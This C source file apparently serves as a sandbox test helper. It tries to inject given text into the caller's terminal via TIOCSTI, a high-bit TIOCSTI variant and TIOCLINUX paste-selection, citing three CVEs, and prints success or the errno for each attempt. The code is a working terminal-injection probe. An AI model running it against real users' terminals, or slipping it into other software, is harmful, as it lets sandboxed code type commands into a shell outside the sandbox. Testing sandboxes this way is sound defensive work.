/* SPDX-License-Identifier: Apache-2.0 */
/*
 * type-into-terminal: put a command into the input of the caller's terminal
 *
 *   type-into-terminal TEXT
 *
 * CVE-2017-5226 (TIOCSTI), CVE-2019-10063 (the same with high bits set in the
 * request, which the kernel ignores) and CVE-2023-28100 (TIOCLINUX).  Tries descriptors 0 to 2
 * and /dev/tty, which it names 3.  One line an attempt: descriptor, request, "OK" or
 * the errno.
 */
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/syscall.h>
#include <unistd.h>

#define TIOCLINUX_REQUEST 0x541cUL
#define TIOCL_PASTESEL 3
#define HIGH_BIT (1UL << 32)

static void attempt(int fd, const char *name, unsigned long request, const void *arg)
{
	long r = syscall(SYS_ioctl, fd, request, arg);

	printf("%d %s %s\n", fd, name, r == 0 ? "OK" : strerrorname_np(errno));
}

static void type(int fd, const char *name, unsigned long request, const char *text)
{
	for (; *text; text++)
		attempt(fd, name, request, text);
}

int main(int argc, char **argv)
{
	const char paste = TIOCL_PASTESEL;
	int tty = open("/dev/tty", O_RDWR | O_CLOEXEC);

	if (argc != 2)
		return 1;
	printf("/dev/tty %s\n", tty >= 0 ? "OK" : strerrorname_np(errno));
	if (tty >= 0)
		dup2(tty, 3);
	for (int fd = 0; fd <= 3; fd++) {
		type(fd, "TIOCSTI", TIOCSTI, argv[1]);
		type(fd, "TIOCSTI+2^32", TIOCSTI | HIGH_BIT, argv[1]);
		attempt(fd, "TIOCLINUX", TIOCLINUX_REQUEST, &paste);
		attempt(fd, "TIOCLINUX+2^32", TIOCLINUX_REQUEST | HIGH_BIT, &paste);
	}
	return fflush(stdout) == 0 ? 0 : 1;
}
